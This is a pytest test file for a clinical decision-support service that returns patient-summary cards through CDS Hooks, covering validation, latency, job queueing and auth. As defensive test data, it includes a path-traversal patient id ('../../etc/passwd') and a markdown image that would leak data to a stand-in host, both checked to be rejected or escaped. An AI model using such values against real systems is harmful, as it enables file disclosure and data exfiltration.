"""CDS Hooks: discovery, the patient-view card from the stored summary, the queued refresh, latency, errors, auth.

Real: the app with its lifespan (the in-process job queue and worker), SQL, the trace the stored
summary is replayed from, and the bundle-folder FHIR source the summary jobs read. Fake: models.
"""

from __future__ import annotations

import asyncio
import re
import statistics
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import update

from agent.audit.tables import utcnow
from agent.config import DEFAULT_FIXTURES, get_settings
from agent.inference.factory import LoadedModels
from agent.inference.protocols import GenerationRequest, GenerationResult
from agent.jobs.store import JobRecord, create_job, find_by_key, get_job, list_jobs
from agent.jobs.tables import SummaryJob
from agent.runner import run_ask
from agent.runtime import AgentRuntime, ModelCache
from agent.service.app import create_app
from agent.service.auth import new_api_key
from agent.service.routes_cds import PREPARING, card_summary, escape_markdown, strip_citations
from tests.graph.test_ask_flow import PATIENTS, FakeScorer, ScriptedReasoner

URL = "/cds-services/medagent-patient-summary"
PUBLIC = "https://medagent.example.org"
CXR, CT = PATIENTS["cxr"], PATIENTS["ct"]


class LongReasoner(ScriptedReasoner):
    """Answers with one long cited first sentence (the card must cut it)."""

    def generate(self, request: GenerationRequest) -> GenerationResult:
        result = super().generate(request)
        if "[Condition/" not in result.text:
            return result
        condition = result.text.split("[", 1)[1].split("]", 1)[0]
        text = (
            "The patient has chronic heart failure with reduced ejection fraction, worsening exertional dyspnoea "
            f"and rising natriuretic peptides over the last three admissions [{condition}]. Diuretics were raised."
        )
        return GenerationResult(text=text, prompt_tokens=100, output_tokens=40, latency_s=0.01)


def make_runtime(tmp_path: Path, *, reasoner: Any = None, **groups: Any) -> AgentRuntime:
    """Return a runtime over the fixture patients with fake models and a public URL for card links."""
    service = {"public_base_url": PUBLIC, "rate_limit_per_minute": 0, **groups.pop("service", {})}
    settings = get_settings(
        fhir=groups.pop("fhir", {"bundle_dir": DEFAULT_FIXTURES / "fhir"}),
        dicom={"dicom_dir": DEFAULT_FIXTURES / "dicom"},
        db={"url": f"sqlite:///{tmp_path / 'trace.db'}"},
        service=service,
        jobs={"poll_interval_s": 0.05},
    )
    loaded = LoadedModels(
        scorer=FakeScorer(), reasoner=reasoner or ScriptedReasoner(), used_test_models=False, banner=None
    )
    return AgentRuntime(settings=settings, models=ModelCache(loader=lambda _s: loaded))


def store_summary(runtime: AgentRuntime, patient_id: str) -> JobRecord:
    """Run a summary and record it as a finished job (before the app, and its worker, start)."""
    result = asyncio.run(
        run_ask(runtime, patient_id=patient_id, question=runtime.settings.jobs.summary_question, trigger="cds-hook")
    )
    job, _ = create_job(runtime.engine, patient_id=patient_id, trigger="cds-hook", max_attempts=1)
    with runtime.engine.begin() as conn:
        conn.execute(
            update(SummaryJob)
            .where(SummaryJob.id == job.id)
            .values(status="done", run_id=result.run_id, finished_at=utcnow(), attempts=1)
        )
    done = get_job(runtime.engine, job.id)
    assert done is not None and done.status == "done"
    return done


def cds_request(patient_id: str, *, hook_instance: str | None = None, **fields: Any) -> dict[str, Any]:
    """Return a patient-view request as an EHR sends it."""
    return {
        "hook": "patient-view",
        "hookInstance": hook_instance or str(uuid.uuid4()),
        "context": {"userId": "Practitioner/pr-1", "patientId": patient_id},
        **fields,
    }


def cds_jobs(runtime: AgentRuntime) -> list[JobRecord]:
    return [job for job in list_jobs(runtime.engine, limit=500) if job.trigger == "cds-hook" and job.idempotency_key]


@pytest.fixture
def runtime(tmp_path: Path) -> Iterator[AgentRuntime]:
    made = make_runtime(tmp_path)
    yield made
    made.engine.dispose()


@pytest.fixture
def stored(runtime: AgentRuntime) -> JobRecord:
    return store_summary(runtime, CXR["patient_id"])


@pytest.fixture
def client(runtime: AgentRuntime) -> Iterator[TestClient]:
    with TestClient(create_app(runtime.settings, runtime)) as test_client:
        yield test_client


def test_discovery_lists_the_patient_view_service(client: TestClient) -> None:
    reply = client.get("/cds-services")
    assert reply.status_code == 200
    [service] = reply.json()["services"]
    assert (service["id"], service["hook"]) == ("medagent-patient-summary", "patient-view")
    assert service["title"] and "not a diagnosis" in service["description"]
    assert service["prefetch"] == {"patient": "Patient/{{context.patientId}}"}


def test_card_shows_the_stored_summary_and_queues_a_fresh_one(
    stored: JobRecord, client: TestClient, runtime: AgentRuntime
) -> None:
    request = cds_request(CXR["patient_id"])
    reply = client.post(URL, json=request)
    assert reply.status_code == 200, reply.text
    [card] = reply.json()["cards"]
    assert card["summary"] == "The patient has heart failure." and len(card["summary"]) < 140
    assert card["indicator"] == "info"
    assert card["source"] == {"label": "medagent (scripted-reasoner)"}
    assert "heart failure \\[Condition/" in card["detail"]  # citations kept as (escaped) text
    assert "decision support, not a diagnosis" in card["detail"]
    assert stored.finished_at is not None
    assert f"Summary written {stored.finished_at:%Y-%m-%d %H:%M} UTC" in card["detail"]  # its age shows
    assert card["links"] == [
        {
            "label": "Open full summary",
            "url": f"{PUBLIC}/ui/?patient={CXR['patient_id']}&summary={stored.id}",
            "type": "absolute",
        }
    ]
    assert uuid.UUID(card["uuid"])

    fresh = find_by_key(runtime.engine, f"cds:{request['hookInstance']}")
    assert fresh is not None and (fresh.trigger, fresh.patient_id) == ("cds-hook", CXR["patient_id"])
    assert fresh.requested_by == "dev"
    # The EHR retried the same call: nothing more is queued.
    assert client.post(URL, json=request).status_code == 200
    assert [job.id for job in cds_jobs(runtime)] == [fresh.id]


def test_the_card_answers_fast_from_storage(stored: JobRecord, client: TestClient) -> None:
    timings = []
    for _ in range(15):
        started = time.perf_counter()
        reply = client.post(URL, json=cds_request(CXR["patient_id"]))
        timings.append(time.perf_counter() - started)
        assert reply.status_code == 200 and reply.json()["cards"][0]["summary"] != PREPARING
    median_ms = statistics.median(timings) * 1000
    print(f"cds patient-view median {median_ms:.1f} ms, max {max(timings) * 1000:.1f} ms over {len(timings)} calls")
    assert statistics.median(timings) < 2.0


def test_without_a_summary_the_card_says_one_is_coming_and_the_worker_makes_it(
    client: TestClient, runtime: AgentRuntime
) -> None:
    request = cds_request(CT["patient_id"])
    reply = client.post(URL, json=request)
    assert reply.status_code == 200, reply.text
    [card] = reply.json()["cards"]
    assert card["summary"] == PREPARING and card["indicator"] == "info"
    assert "decision support, not a diagnosis" in card["detail"]
    job = find_by_key(runtime.engine, f"cds:{request['hookInstance']}")
    assert job is not None and card["links"][0]["url"].endswith(f"summary={job.id}")

    deadline = time.monotonic() + 60
    while (current := get_job(runtime.engine, job.id)) is not None and current.status != "done":
        assert current.status != "dead", current.error_code
        assert time.monotonic() < deadline, "the queued summary did not finish"
        time.sleep(0.1)
    later = client.post(URL, json=cds_request(CT["patient_id"])).json()["cards"][0]
    assert later["summary"] != PREPARING and later["links"][0]["url"].endswith(f"summary={job.id}")


def test_a_long_summary_is_cut_on_a_word_boundary(tmp_path: Path) -> None:
    runtime = make_runtime(tmp_path, reasoner=LongReasoner())
    store_summary(runtime, CXR["patient_id"])
    with TestClient(create_app(runtime.settings, runtime)) as client:
        [card] = client.post(URL, json=cds_request(CXR["patient_id"])).json()["cards"]
    runtime.engine.dispose()
    summary = card["summary"]
    assert len(summary) < 140 and summary.endswith("…") and "[" not in summary
    full = (
        "The patient has chronic heart failure with reduced ejection fraction, worsening exertional dyspnoea "
        "and rising natriuretic peptides over the last three admissions."
    )
    assert full.startswith(summary[:-1]) and full[len(summary) - 1] == " "
    assert "Diuretics were raised." in card["detail"]


def test_bad_requests_are_400_problems(stored: JobRecord, client: TestClient, runtime: AgentRuntime) -> None:
    patient = CXR["patient_id"]
    cases: list[tuple[Any, str]] = [
        (b"{nope", "not JSON"),
        (b"[]", "JSON object"),
        (cds_request(patient) | {"hook": "order-sign"}, "patient-view hook"),
        ({"hook": "patient-view", "hookInstance": str(uuid.uuid4()), "context": {}}, "context.patientId: required"),
        (cds_request("../../etc/passwd"), "context.patientId: not a FHIR id"),
        (cds_request(patient, hook_instance="not-a-uuid"), "hookInstance must be a UUID"),
        (cds_request(patient, prefetch={"patient": {"resourceType": "Patient", "id": "other"}}), "prefetch.patient"),
        (cds_request(patient, fhirAuthorization={"token_type": "Bearer"}), "fhirAuthorization.access_token"),
    ]
    for payload, message in cases:
        if isinstance(payload, bytes):
            reply = client.post(URL, content=payload, headers={"Content-Type": "application/json"})
        else:
            reply = client.post(URL, json=payload)
        assert reply.status_code == 400, (message, reply.text)
        assert reply.headers["content-type"].startswith("application/problem+json")
        problem = reply.json()
        assert problem["code"] == "cds_request_invalid" and message in problem["detail"], problem
    assert cds_jobs(runtime) == []  # nothing queued for a refused call


def test_fhir_server_must_be_the_one_medagent_reads(tmp_path: Path) -> None:
    # fhir.base_url is never called here: the card comes from storage, the queued job is not awaited.
    base = "http://127.0.0.1:9/fhir"
    runtime = make_runtime(tmp_path, fhir={"base_url": base, "max_retries": 0})
    token = {"access_token": "ehr-token", "token_type": "Bearer", "expires_in": 300, "scope": "patient/*.read"}
    with TestClient(create_app(runtime.settings, runtime)) as client:
        other = client.post(URL, json=cds_request("p-1", fhirServer="https://ehr.example.org/fhir"))
        same = client.post(URL, json=cds_request("p-1", fhirServer=base + "/", fhirAuthorization=token))
    runtime.engine.dispose()
    assert other.status_code == 400 and "fhir.base_url" in other.json()["detail"]
    assert same.status_code == 200 and same.json()["cards"][0]["summary"] == PREPARING


def test_the_service_role_is_required(tmp_path: Path) -> None:
    keys, specs = {}, []
    for role in ("service", "clinician"):
        key, spec = new_api_key(f"user-{role}", [role], role)  # type: ignore[list-item]
        keys[role] = key
        specs.append(spec.model_dump())
    runtime = make_runtime(tmp_path, service={"api_keys": specs})
    with TestClient(create_app(runtime.settings, runtime)) as client:
        assert client.get("/cds-services").status_code == 200  # discovery describes, it reveals nothing
        assert client.post(URL, json=cds_request(CXR["patient_id"])).status_code == 401
        denied = client.post(URL, json=cds_request(CXR["patient_id"]), headers={"X-API-Key": keys["clinician"]})
        assert denied.status_code == 403
        allowed = client.post(
            URL, json=cds_request(CXR["patient_id"]), headers={"Authorization": f"Bearer {keys['service']}"}
        )
        assert allowed.status_code == 200, allowed.text
        [job] = cds_jobs(runtime)
    runtime.engine.dispose()
    assert job.requested_by == "user-service"


# -- the card's text -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("answer", "summary"),
    [
        ("The patient has heart failure [Condition/c-1]. BNP is rising.", "The patient has heart failure."),
        ("Stable COPD [Condition/a, Observation/b-2]; no change [see above].", "Stable COPD; no change [see above]."),
        ("- Active problems: diabetes [Condition/d]\n- Meds: metformin", "Active problems: diabetes"),
        ("BNP 3.5 ng/L [Observation/o]! Repeat soon.", "BNP 3.5 ng/L!"),
        ("   ", PREPARING),
    ],
)
def test_card_summary_is_the_first_sentence_without_citations(answer: str, summary: str) -> None:
    assert card_summary(answer) == summary


def test_card_summary_cuts_long_sentences_and_unbroken_text() -> None:
    words = " ".join(["pneumonia"] * 40) + "."
    cut = card_summary(words)
    assert len(cut) <= 139 and cut.endswith("…") and cut[:-1].split(" ")[-1] == "pneumonia"
    unbroken = card_summary("x" * 500)
    assert len(unbroken) == 139 and unbroken.endswith("…")


def test_markdown_in_model_text_cannot_become_links_or_html() -> None:
    text = "See ![x](https://evil.example/leak?d=1) and <img src=x> [Condition/c-1]"
    escaped = escape_markdown(text)
    assert re.search(r"(?<!\\)[\[\]<>]", escaped) is None  # every bracket and angle is escaped
    assert "\\[Condition/c-1\\]" in escaped
    assert strip_citations("Done [Condition/c-1] .") == "Done."
